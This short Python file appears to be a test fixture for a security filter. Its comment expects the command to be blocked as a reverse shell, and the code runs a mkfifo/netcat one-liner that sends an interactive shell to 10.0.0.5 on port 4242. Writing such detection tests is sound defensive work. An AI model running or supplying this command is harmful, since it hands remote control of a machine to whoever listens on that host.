# expect: BLOCKED reverse_shell
import subprocess
cmd = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4242 >/tmp/f"
subprocess.run(cmd, shell=True)
